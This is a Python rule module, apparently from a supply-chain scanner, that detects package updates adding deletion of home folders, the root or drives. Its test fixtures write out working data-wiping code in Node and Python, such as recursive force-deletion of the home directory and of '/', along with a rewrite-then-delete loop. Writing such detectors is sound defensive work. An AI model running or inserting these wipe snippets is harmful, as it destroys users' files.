"""This update deletes what is not its own.

## What it detects
Deletion of a home folder, a root, a drive or everything in the working folder, at once or one after the other, new to
the line; files beside whatever is found there, in a file that deletes as well, as what is held to ransom is.

## Why it matters
Releases have been published to destroy, in protest or to cover a theft (node-ipc in 2022, dead-man's switches in
2026). A library has no reason to delete a home folder.

## What it misses
Overwriting in place; deletion of a path that is computed from data that only the running program has.

## References
- The public record of node-ipc 10.1.1 (2022)
- MITRE ATT&CK T1485, Data Destruction
"""

from collections.abc import Iterator

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, package_json, runs_by_itself
from lazaretto.core.update import Placed, Update

CARD = Card(
    id="broad-deletion-added",
    title="Deletes what is not its own",
    variants={
        "autorun": "Code that runs by itself deletes a home folder, a root or a drive.",
        "call": "A function deletes a home folder, a root or a drive.",
        "rewritten": "Code that runs by itself writes to whatever lies in a home folder or a drive, and deletes.",
    },
    group="destruction",
    why="A library has no business outside its own folders.",
    attack=("T1195.002", "T1485"),
)

_BROAD = frozenset(
    {"/", "/*", "~", "~/", "~/*", "$home", "$home/", "$home/*", "c:", "c:/", "c:/*", "/home", "/home/", "/home/*",
     "/users", "/users/", "/users/*", "%userprofile%", "*", "./*", "d:", "d:/"}
)  # fmt: skip
_MOUNTED_HOME = ("/~", "/$home", "/%userprofile%")
_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_WIPE = "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });\n"

EXAMPLES = (
    Example(
        title="the entry file removes the home folder",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _WIPE + "module.exports = (a) => a;\n"},
        expect="autorun",
        at="index.js:1",
    ),
    Example(
        title="a function removes everything below the root",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.clean = function clean() { require('fs').rmSync('/', { recursive: true }); };\n",
        },
        expect="call",
        at="index.js:1",
    ),
    Example(
        title="in a container the home folder of the host is removed",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const { rm } = require('fs');\nconst { join } = require('path');\n"
            "const home = join('/host', require('os').homedir());\n"
            "rm(home, { recursive: true }, () => {});\nmodule.exports = (a) => a;\n",
        },
        expect="autorun",
        at="index.js:4",
    ),
    Example(
        title="whatever lies in the home folder is written anew under another name, and deleted",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const fs = require('fs');\nconst home = require('os').homedir();\n"
            "for (const name of fs.readdirSync(home)) {\n"
            "  fs.writeFileSync(home + '/' + name + '.kept', 'x');\n  fs.unlinkSync(home + '/' + name);\n}\n"
            "module.exports = (a) => a;\n",
        },
        expect="rewritten",
        at="index.js:4",
    ),
    Example(
        title="whatever lies in the home folder is deleted, one by one",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import pathlib, shutil\nfor child in pathlib.Path.home().iterdir():\n"
            "    shutil.rmtree(child)\nWIDTH = 2\n"
        },
        expect="autorun",
        at="pad/__init__.py:3",
    ),
    Example(
        title="a package deletes what it has left behind in the home folder",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import pathlib\nfor old in pathlib.Path.home().glob('.pad-*.lock'):\n"
            "    old.unlink()\nWIDTH = 2\n"
        },
    ),
    Example(
        title="a build tool empties its output folder",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "require('fs').rmSync('dist', { recursive: true });\nmodule.exports = (a) => a;\n",
        },
    ),
    Example(
        title="a function removes the path it is given",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.clean = (path) => require('fs').rmSync(path, { recursive: true });\n",
        },
    ),
)

_MESSAGES = {
    "rewritten": "writes, without being called, to whatever lies in a home folder or a drive, and deletes",
    "autorun": "deletes, without being called, what is not its own",
    "call": "deletes, when it is called, what is not its own",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant; at first contact what runs by itself is asked as well."""
    tally = Tally(CARD)
    for pair in update.pairs:
        for placed in pair.gained(Kind.FS_DELETE):
            alone = runs_by_itself(placed)
            broad = is_broad(placed.fact.value) or (alone and _one_by_one(placed.fact.value))
            if broad and (pair.before is not None or alone):
                tally.add("autorun" if alone else "call", pair, placed)
        deletes = {placed.path for placed in pair.after.placed if _deletes(placed)}
        for placed in pair.gained(Kind.FS_WRITE):
            if placed.path in deletes and runs_by_itself(placed) and _whatever_lies_there(placed.fact.value):
                tally.add("rewritten", pair, placed)
    yield from tally.findings(_MESSAGES)


def _deletes(placed: Placed) -> bool:
    return placed.fact.kind is Kind.FS_DELETE and runs_by_itself(placed)


def _whatever_lies_there(path: str | None) -> bool:
    """Whether a path is made of a broad folder and a name that was found in it."""
    text = (path or "").strip().replace("\\", "/").replace("{}", "*").lower()
    folder, star, _ = text.partition("/*")
    return bool(star) and is_broad(folder or "/")


def _one_by_one(path: str | None) -> bool:
    """Whether a path is a home folder or a drive and the name of something in it that nobody knows: each in turn."""
    folder, star, rest = (path or "").replace("\\", "/").replace("{}", "*").partition("/*")
    return bool(folder and star) and not rest and is_broad(folder)


def is_broad(path: str | None) -> bool:
    """Whether a path stands for everything of a user or a machine, also of one that is mounted somewhere."""
    text = (path or "").strip().replace("\\", "/").replace("//", "/").lower()
    return text in _BROAD or text.removesuffix("/*").rstrip("/").endswith(_MOUNTED_HOME)
